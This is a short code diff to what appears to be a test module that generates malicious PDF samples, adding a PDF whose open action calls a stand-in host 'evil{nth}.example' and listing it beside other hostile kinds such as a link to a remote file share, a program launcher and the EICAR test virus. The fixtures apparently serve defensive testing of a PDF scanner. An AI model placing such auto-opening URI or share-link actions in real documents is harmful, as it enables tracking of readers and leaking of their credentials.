@@ -144,6 +144,13 @@ def pdf_with_a_link_to_a_share(nth: int) -> File:
     return "surat.pdf", _action("URI", URI=String(f"file://evil{nth}/share/x"))
 
 
+def pdf_that_calls_home(nth: int) -> File:
+    """Return a PDF that opens an address on the web when it is opened itself."""
+    from pikepdf import String
+
+    return "surat.pdf", _action("URI", URI=String(f"https://evil{nth}.example/opened"))
+
+
 def pdf_with_a_virus(nth: int) -> File:
     """Return a PDF with the test virus of EICAR in the content of its page."""
 
@@ -184,6 +191,7 @@ KINDS: tuple[Callable[[int], File], ...] = (
     pdf_that_starts_a_program,
     pdf_with_a_file,
     pdf_with_a_link_to_a_share,
+    pdf_that_calls_home,
     pdf_with_a_virus,
     pdf_and_archive,
     page_called_pdf,
